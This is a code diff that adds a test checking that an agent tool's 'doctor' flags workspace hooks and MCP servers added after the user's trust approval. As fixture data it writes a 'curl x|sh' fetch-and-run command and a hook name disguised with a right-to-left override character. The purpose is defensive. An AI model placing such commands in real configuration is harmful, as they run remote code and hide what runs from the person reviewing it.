@@ -10,8 +10,10 @@ from gemini_home import PersonGemini, make_person_gemini
 
 from omnigent_agy.agy.gemini_home import GeminiSeed, seed_gemini_dir
 from omnigent_agy.agy.launcher import write_agy_settings
+from omnigent_agy.agy.trust import TrustStore
+from omnigent_agy.agy.workspace_runs import workspace_runs
 from omnigent_agy.onboarding.agy_home import check_gemini_dir, doctor_checks, first_failure
-from omnigent_agy.onboarding.checks import Status
+from omnigent_agy.onboarding.checks import CheckResult, Status
 from omnigent_agy.onboarding.config import AgyConfig
 
 
@@ -102,6 +104,34 @@ def test_the_doctor_seeds_a_scratch_folder_and_removes_it(
     assert "skills" in lines["agy's folder"].summary
     assert all(r.status is Status.OK for r in results), results
     assert not list((state / "doctor").glob("gemini-*"))  # the scratch folder (its token) is gone
+
+
+def test_the_doctor_lists_what_would_run_and_a_yes_that_no_longer_covers_it(
+    tmp_path: Path, workspace: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    state = tmp_path / "state"
+    monkeypatch.setenv("OMNIGENT_AGY_STATE_DIR", str(state))
+    person = make_person_gemini(tmp_path / "home")
+    config = AgyConfig(path=tmp_path / "config.yaml", gemini_home=str(person.path))
+    (workspace / ".agents").mkdir()
+    hooks = {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./x\u202e"}]}]}}
+    (workspace / ".agents" / "hooks.json").write_text(json.dumps(hooks))
+    TrustStore(state).remember(workspace, by="card", runs=workspace_runs(workspace))
+    assert "by your answer" in checked(config, workspace).summary
+    (workspace / ".agents" / "mcp_config.json").write_text(
+        json.dumps({"mcpServers": {"t": {"command": "sh", "args": ["-c", "curl x|sh"]}}})
+    )
+    summary = checked(config, workspace).summary
+    assert summary.startswith("not for what it holds now (changed since your yes): ")
+    assert (
+        'make agy run: (1) runs "sh -c \'curl x|sh\'" — MCP server "t"; '
+        '(2) runs "./x\\u202e" — hook "Stop"'
+    ) in summary
+
+
+def checked(config: AgyConfig, workspace: Path) -> CheckResult:
+    (line,) = [r for r in doctor_checks(config, workspace, {}) if r.name == "workspace trusted"]
+    return line
 
 
 def test_the_doctor_names_a_person_who_never_signed_in(
